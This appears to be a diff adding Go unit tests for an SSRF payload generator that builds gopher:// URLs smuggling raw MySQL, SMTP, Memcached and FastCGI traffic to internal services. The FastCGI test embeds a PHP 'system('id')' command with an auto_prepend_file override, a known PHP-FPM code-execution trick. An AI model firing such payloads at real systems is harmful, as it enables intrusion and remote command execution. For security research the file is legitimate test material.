@@ -0,0 +1,135 @@
+package payloads
+
+import (
+	"bytes"
+	"encoding/binary"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// gopherData 解码gopher URL中发送的原始数据
+func gopherData(t *testing.T, gopherURL, wantPrefix string) []byte {
+	t.Helper()
+	if !strings.HasPrefix(gopherURL, wantPrefix) {
+		t.Fatalf("gopher URL = %q, want prefix %q", gopherURL, wantPrefix)
+	}
+	data, err := url.PathUnescape(gopherURL[len(wantPrefix):])
+	if err != nil {
+		t.Fatalf("解码gopher数据失败: %v", err)
+	}
+	return []byte(data)
+}
+
+func TestGopherURL(t *testing.T) {
+	got := GopherURL("::1", 6379, []byte("INFO\r\n*1 $"))
+	if want := "gopher://[::1]:6379/_INFO%0D%0A%2A1%20%24"; got != want {
+		t.Errorf("GopherURL = %q, want %q", got, want)
+	}
+}
+
+func TestGopherMySQL(t *testing.T) {
+	data := gopherData(t, GopherMySQL("127.0.0.1", 3306, "root", "select 1"), "gopher://127.0.0.1:3306/_")
+
+	// 依次解析登录包、COM_QUERY、COM_QUIT
+	var packets [][]byte
+	var seqs []byte
+	for len(data) > 0 {
+		if len(data) < 4 {
+			t.Fatalf("MySQL包头不完整: %x", data)
+		}
+		n := int(data[0]) | int(data[1])<<8 | int(data[2])<<16
+		if len(data) < 4+n {
+			t.Fatalf("MySQL包长度错误: %d", n)
+		}
+		seqs = append(seqs, data[3])
+		packets = append(packets, data[4:4+n])
+		data = data[4+n:]
+	}
+
+	if len(packets) != 3 || !bytes.Equal(seqs, []byte{1, 0, 0}) {
+		t.Fatalf("MySQL包数量或序号错误: %d %v", len(packets), seqs)
+	}
+	login := packets[0]
+	if caps := binary.LittleEndian.Uint32(login); caps&mysqlClientProtocol41 == 0 {
+		t.Errorf("登录包未设置 CLIENT_PROTOCOL_41: %x", caps)
+	}
+	if user := login[32 : 32+5]; string(user) != "root\x00" {
+		t.Errorf("登录包用户名 = %q", user)
+	}
+	if string(packets[1]) != "\x03select 1" || string(packets[2]) != "\x01" {
+		t.Errorf("COM_QUERY/COM_QUIT = %q %q", packets[1], packets[2])
+	}
+}
+
+func TestGopherSMTP(t *testing.T) {
+	data := gopherData(t, GopherSMTP("127.0.0.1", 25, "a@x.com", "b@x.com", "hi", "line1\n.line2"), "gopher://127.0.0.1:25/_")
+	want := "HELO localhost\r\nMAIL FROM:<a@x.com>\r\nRCPT TO:<b@x.com>\r\nDATA\r\nFrom: a@x.com\r\nTo: b@x.com\r\nSubject: hi\r\n\r\nline1\r\n..line2\r\n.\r\nQUIT\r\n"
+	if string(data) != want {
+		t.Errorf("SMTP数据 = %q, want %q", data, want)
+	}
+}
+
+func TestGopherMemcached(t *testing.T) {
+	data := gopherData(t, GopherMemcached("127.0.0.1", 11211, "stats"), "gopher://127.0.0.1:11211/_")
+	if string(data) != "stats\r\nquit\r\n" {
+		t.Errorf("Memcached数据 = %q", data)
+	}
+}
+
+func TestGopherFastCGI(t *testing.T) {
+	code := "<?php system('id');?>"
+	data := gopherData(t, GopherFastCGI("127.0.0.1", 9000, "/var/www/index.php", code), "gopher://127.0.0.1:9000/_")
+
+	// 依次解析记录，校验类型顺序和内容
+	var types []byte
+	contents := make(map[byte][]byte)
+	for len(data) > 0 {
+		if len(data) < 8 || data[0] != fcgiVersion {
+			t.Fatalf("FastCGI记录头错误: %x", data)
+		}
+		n := int(binary.BigEndian.Uint16(data[4:]))
+		padding := int(data[6])
+		types = append(types, data[1])
+		contents[data[1]] = append(contents[data[1]], data[8:8+n]...)
+		data = data[8+n+padding:]
+	}
+
+	wantTypes := []byte{fcgiBeginRequest, fcgiParams, fcgiParams, fcgiStdin, fcgiStdin}
+	if !bytes.Equal(types, wantTypes) {
+		t.Fatalf("记录类型 = %v, want %v", types, wantTypes)
+	}
+	if string(contents[fcgiStdin]) != code {
+		t.Errorf("STDIN = %q", contents[fcgiStdin])
+	}
+
+	// 解析名值对
+	params := make(map[string]string)
+	p := contents[fcgiParams]
+	readLen := func() int {
+		if p[0] < 128 {
+			n := int(p[0])
+			p = p[1:]
+			return n
+		}
+		n := int(binary.BigEndian.Uint32(p) &^ (1 << 31))
+		p = p[4:]
+		return n
+	}
+	for len(p) > 0 {
+		nameLen, valueLen := readLen(), readLen()
+		params[string(p[:nameLen])] = string(p[nameLen : nameLen+valueLen])
+		p = p[nameLen+valueLen:]
+	}
+	if params["SCRIPT_FILENAME"] != "/var/www/index.php" || params["REQUEST_METHOD"] != "POST" ||
+		params["PHP_VALUE"] != "auto_prepend_file = php://input" || params["CONTENT_LENGTH"] != "21" {
+		t.Errorf("FastCGI参数错误: %v", params)
+	}
+}
+
+func TestFCGILongParam(t *testing.T) {
+	got := appendFCGILength(nil, 300)
+	if !bytes.Equal(got, []byte{0x80, 0, 0x01, 0x2c}) {
+		t.Errorf("长度编码 = %x", got)
+	}
+}